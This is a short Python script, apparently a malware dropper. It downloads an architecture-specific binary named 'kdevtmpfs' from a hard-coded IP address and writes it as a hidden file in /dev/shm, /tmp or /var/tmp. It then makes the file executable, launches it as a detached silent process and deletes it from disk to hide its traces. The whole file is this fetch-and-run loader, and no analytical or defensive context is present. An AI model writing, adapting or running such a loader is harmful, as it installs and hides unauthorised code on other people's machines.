import os, stat, urllib.request, subprocess, platform

arch = {"x86_64": "amd64", "aarch64": "arm64"}.get(platform.machine(), "amd64")
url = "http://203.0.113.50/bins/kdevtmpfs." + arch

for d in ("/dev/shm", "/tmp", "/var/tmp"):
    if os.access(d, os.W_OK):
        break
path = os.path.join(d, ".kdevtmpfs")

with urllib.request.urlopen(url, timeout=20) as r, open(path, "wb") as f:
    f.write(r.read())
os.chmod(path, os.stat(path).st_mode | stat.S_IXUSR | stat.S_IXGRP | stat.S_IXOTH)

subprocess.Popen([path], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                 stdin=subprocess.DEVNULL, start_new_session=True)
os.unlink(path)
